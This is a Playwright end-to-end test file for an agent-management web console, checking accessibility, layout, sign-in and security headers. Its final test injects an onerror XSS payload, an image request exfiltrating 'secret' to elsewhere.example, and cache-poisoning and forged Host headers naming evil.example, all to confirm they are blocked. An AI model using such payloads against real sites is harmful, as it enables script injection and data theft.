import type { Page } from "@playwright/test";
import { expectAccessible } from "./accessible";
import { complaintsOf } from "./complaints";
import {
  answerFirstOption,
  createOwner,
  expect,
  expectAnswer,
  Installation,
  OWNER,
  startDemoRun,
  test,
} from "./installation";
import { PAGES } from "./pages";

let installation: Installation;

// The first makes the owner the others sign in as.
test.describe.configure({ mode: "serial" });
test.beforeAll(async () => {
  installation = await Installation.start();
});
test.afterAll(async () => {
  await installation.stop();
});

async function expectNoSidewaysScroll(page: Page): Promise<void> {
  const over = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  expect(over).toBeLessThanOrEqual(0);
}

test("every page of the console works on a desktop and a phone, with the keyboard, signed out and in again", async ({
  browser,
}) => {
  const context = await browser.newContext({ baseURL: installation.url });
  const page = await context.newPage();
  const errors = complaintsOf(page);

  await page.goto("/runs?status=failed");
  await expect(page).toHaveURL(/\/setup/);
  await expectAccessible(page);
  await createOwner(page, installation);
  await expectAccessible(page);

  await page.goto("/runs?q=nothing-is-called-this");
  await expect(page.getByText(/no run/i).first()).toBeVisible();
  await page.goto("/");
  await expect(page.getByRole("button", { name: "Remove the examples…" })).toBeVisible();
  await startDemoRun(page, "How are decisions recorded?");
  await expect(page.getByText("How detailed should the answer be").first()).toBeVisible();
  await answerFirstOption(page);
  await expectAnswer(page);
  await expectAccessible(page);

  await page.keyboard.press("ControlOrMeta+k");
  await page
    .getByPlaceholder(/search/i)
    .last()
    .fill("runs");
  await page.keyboard.press("Enter");
  await expect(page).toHaveURL(/\/runs(\?|$)/);
  await expect(page.getByRole("link", { name: "How are decisions recorded?" })).toBeVisible();
  await expectAccessible(page);

  for (const colorScheme of ["light", "dark"] as const) {
    await page.emulateMedia({ colorScheme });
    for (const width of [390, 1440]) {
      await page.setViewportSize({ width, height: 844 });
      for (const path of ["/", "/runs"]) {
        await page.goto(path);
        await expect(page.getByText("How are decisions recorded?").first()).toBeVisible();
        await expectNoSidewaysScroll(page);
      }
      await page.getByText("How are decisions recorded?").first().click();
      await page.waitForURL(/\/runs\/[0-9a-f-]{36}/);
      await expectAnswer(page);
      await expectNoSidewaysScroll(page);
      await expectAccessible(page);
    }
  }

  const deepLink = page.url();
  await context.clearCookies();
  await page.goto(deepLink);
  await expect(page).toHaveURL(/\/sign-in\?next=/);
  await page.getByLabel("E-mail address").fill(OWNER.email);
  await page.getByLabel("Password", { exact: true }).fill("wrong password entirely");
  await page.getByRole("button", { name: "Sign in" }).click();
  await expect(page.getByRole("alert").first()).toBeVisible();
  await page.getByLabel("Password", { exact: true }).fill(OWNER.password);
  await page.getByRole("button", { name: "Sign in" }).click();
  await expectAnswer(page);
  expect(errors).toEqual([]);
  await context.close();
});

/** As many as are asked for at once. */
const AT_ONCE = 8;

test("pages that are asked for at the same time are all answered", async ({ browser }) => {
  const context = await browser.newContext({ baseURL: installation.url });
  const page = await context.newPage();
  await page.goto("/sign-in");
  await page.getByLabel("E-mail address").fill(OWNER.email);
  await page.getByLabel("Password", { exact: true }).fill(OWNER.password);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.waitForURL((url) => url.pathname === "/");
  // The frame and the page in it are prepared side by side: which is first differs from one request to the next.
  const paths = ["/decisions", "/conversations", "/runs", "/feedback"].flatMap((path) => Array(AT_ONCE).fill(path));
  const statuses: number[] = [];
  for (let from = 0; from < paths.length; from += AT_ONCE) {
    const answers = await Promise.all(paths.slice(from, from + AT_ONCE).map((path) => page.request.get(path)));
    statuses.push(...answers.map((answer) => answer.status()));
  }
  expect(statuses.filter((status) => status !== 200)).toEqual([]);
  expect(installation.log).not.toContain("Failed to parse URL");
  await context.close();
});

/** Lists, and an entry of each whose page is looked at as well. */
const FIRST_OF = { "/teams": "Research desk", "/agents": "Searcher", "/knowledge": "Troupe documentation" };

test("all pages are accessible and fit a desktop and a phone, light and dark", async ({ browser }) => {
  const context = await browser.newContext({ baseURL: installation.url });
  const page = await context.newPage();
  const errors = complaintsOf(page);
  await page.goto("/sign-in");
  await page.getByLabel("E-mail address").fill(OWNER.email);
  await page.getByLabel("Password", { exact: true }).fill(OWNER.password);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.waitForURL(({ pathname }) => pathname === "/");

  const paths = [...PAGES];
  for (const [list, name] of Object.entries(FIRST_OF)) {
    await page.goto(list);
    await page.getByRole("link", { name, exact: true }).click();
    await page.waitForURL(new RegExp(`${list}/[0-9a-f-]{36}`));
    paths.push(new URL(page.url()).pathname);
  }
  await page.getByRole("link", { name: "durability.md" }).click();
  await page.waitForURL(/\/documents\/[0-9a-f-]{36}/);
  paths.push(new URL(page.url()).pathname);

  for (const { colorScheme, width } of [
    { colorScheme: "light", width: 1440 },
    { colorScheme: "dark", width: 390 },
  ] as const) {
    await page.emulateMedia({ colorScheme });
    await page.setViewportSize({ width, height: 844 });
    for (const path of paths) {
      await page.goto(path);
      await expect(page.getByRole("main").getByRole("heading").first()).toBeVisible();
      await expect(page.locator(".skeleton-rows")).toHaveCount(0);
      await expectNoSidewaysScroll(page);
      await test.step(`axe on ${path} (${colorScheme}, ${width} px)`, () => expectAccessible(page));
    }
  }
  expect(errors).toEqual([]);
  await context.close();
});

test("answers are not to be framed, guessed at or kept; a page runs its own scripts only, and no other name is answered to", async ({
  browser,
}) => {
  const context = await browser.newContext({ baseURL: installation.url });
  const page = await context.newPage();
  const complaints = complaintsOf(page);
  await page.goto("/sign-in");
  await page.getByLabel("E-mail address").fill(OWNER.email);
  await page.getByLabel("Password", { exact: true }).fill(OWNER.password);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.waitForURL(({ pathname }) => pathname === "/");

  const nonces = new Set<string>();
  for (const path of ["/", "/runs", "/nothing-here"]) {
    const headers = (await page.request.get(path)).headers();
    expect(headers).toMatchObject({ "x-content-type-options": "nosniff", "cross-origin-opener-policy": "same-origin" });
    expect(headers["cache-control"]).toContain("private");
    expect(headers["cache-control"]).toContain("no-store");
    const policy = headers["content-security-policy"] ?? "";
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).not.toMatch(/https?:|script-src[^;]*'(unsafe-inline|self)'/);
    nonces.add(/'nonce-([\w-]{16,})'/.exec(policy)?.[1] ?? "");
  }
  expect(nonces.size).toBe(3);
  for (const path of ["/api/trpc/workspace.me", "/api/auth/csrf", "/api/files/nothing", "/healthz/ready"]) {
    const headers = (await page.request.get(path)).headers();
    expect(headers["cache-control"]).toContain("no-store");
    expect(headers["x-content-type-options"]).toBe("nosniff");
  }

  // What a model or a tool could have written into a page.
  await page.goto("/");
  const ran = await page.evaluate(async () => {
    const script = document.createElement("div");
    script.innerHTML = `<img src="/nothing.png" onerror="document.title = 'ran'">`;
    document.body.append(script);
    await new Promise((resolve) => script.querySelector("img")?.addEventListener("error", resolve));
    const image = new Image();
    const outcome = new Promise((resolve) => {
      image.onerror = () => resolve("refused");
      image.onload = () => resolve("loaded");
    });
    image.src = "https://elsewhere.example/?q=secret";
    return { title: document.title, image: await outcome };
  });
  expect(ran.title).not.toBe("ran");
  expect(ran.image).toBe("refused");
  // Both were the policy's doing, and nothing before them was.
  expect(complaints.length).toBeGreaterThanOrEqual(2);
  expect(complaints.filter((complaint) => !/inline event handler|elsewhere\.example/.test(complaint))).toEqual([]);

  // A50: of a page no form is anybody else's, whatever a cache in front were told about it.
  const stranger = await browser.newContext({ baseURL: installation.url });
  const poison = { "x-forwarded-host": "evil.example", "x-forwarded-scheme": "nothttps", "x-rewrite-url": "/account" };
  const variants: Record<string, string>[] = [{}, { rsc: "1" }, { rsc: "1", "next-router-prefetch": "1" }, poison];
  for (const headers of variants) {
    const own = await page.request.get("/", { headers });
    expect(own.headers()["cache-control"]).toMatch(/private|no-store/);
    expect(await own.text()).not.toContain("evil.example");
    const theirs = await stranger.request.get("/", { headers });
    expect(await theirs.text()).not.toContain(OWNER.email);
    expect(theirs.headers()["cache-control"] ?? "no-store").not.toMatch(/public|s-maxage/);
  }
  await stranger.close();

  const foreign = await page.request.get("/sign-in", { headers: { host: "evil.example" } });
  expect(foreign.status()).toBe(403);
  await context.close();
});
